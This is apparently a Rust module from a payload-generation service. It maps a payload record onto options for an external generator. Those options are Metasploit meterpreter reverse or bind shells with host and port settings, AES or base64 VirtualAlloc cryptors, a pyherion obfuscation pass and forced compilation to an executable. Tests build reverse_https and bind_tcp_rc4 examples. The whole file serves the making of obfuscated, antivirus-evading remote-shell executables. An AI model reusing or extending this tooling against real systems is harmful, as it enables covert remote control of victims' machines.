//! Generation options assembled from a payload record.

use armory_core::{Payload, ShellMode};
use serde::Serialize;

/// Scripting backend the toolkit builds payloads with. Fixed; the toolkit's
/// other backends are not exposed through this service.
pub const LANGUAGE: &str = "python";

/// The full option set handed to the external generator for one invocation.
#[derive(Debug, Clone, Serialize)]
#[non_exhaustive]
pub struct GeneratorOptions {
    /// Metasploit payload identifier, e.g. `"windows/meterpreter/reverse_tcp"`.
    pub msf_payload: String,

    /// `KEY=value` pairs for the payload: the mode's address and the port.
    pub msf_options: Vec<String>,

    /// Cryptor wire name, e.g. `"AESVirtualAlloc"`.
    pub cryptor: String,

    /// Compile the result to an executable. Always set.
    pub compile_to_exe: bool,

    /// Apply the pyherion obfuscation pass. Always set.
    pub use_pyherion: bool,

    /// Base name for the output file, e.g. `"reverse_tcp_veil"`.
    pub output_base: String,
}

impl GeneratorOptions {
    /// Assembles options from a validated payload record.
    #[must_use]
    pub fn for_payload(payload: &Payload) -> Self {
        let msf_options = match payload.mode() {
            ShellMode::Reverse => vec![
                format!("LHOST={}", payload.lhost),
                format!("LPORT={}", payload.lport),
            ],
            ShellMode::Bind => vec![
                format!("RHOST={}", payload.rhost),
                format!("LPORT={}", payload.lport),
            ],
        };
        Self {
            msf_payload: payload.msf_payload.clone(),
            msf_options,
            cryptor: payload.cryptor.as_str().to_owned(),
            compile_to_exe: true,
            use_pyherion: true,
            output_base: format!("{}_veil", payload.label()),
        }
    }
}

#[cfg(test)]
mod tests {
    use armory_core::UserId;

    use super::*;

    #[test]
    fn reverse_options_carry_lhost() {
        let payload = match Payload::reverse(
            UserId::new(),
            "10.0.0.5",
            "8443",
            "https",
            "AESVirtualAlloc",
        ) {
            Ok(p) => p,
            Err(e) => panic!("valid input rejected: {e}"),
        };
        let options = GeneratorOptions::for_payload(&payload);
        assert_eq!(options.msf_payload, "windows/meterpreter/reverse_https");
        assert_eq!(options.msf_options, vec!["LHOST=10.0.0.5", "LPORT=8443"]);
        assert_eq!(options.cryptor, "AESVirtualAlloc");
        assert_eq!(options.output_base, "reverse_https_veil");
        assert!(options.compile_to_exe && options.use_pyherion);
    }

    #[test]
    fn bind_options_carry_rhost() {
        let payload = match Payload::bind(
            UserId::new(),
            "172.16.0.20",
            "4444",
            "tcp_rc4",
            "b64VirtualAlloc",
        ) {
            Ok(p) => p,
            Err(e) => panic!("valid input rejected: {e}"),
        };
        let options = GeneratorOptions::for_payload(&payload);
        assert_eq!(options.msf_options, vec!["RHOST=172.16.0.20", "LPORT=4444"]);
        assert_eq!(options.output_base, "bind_tcp_rc4_veil");
    }
}
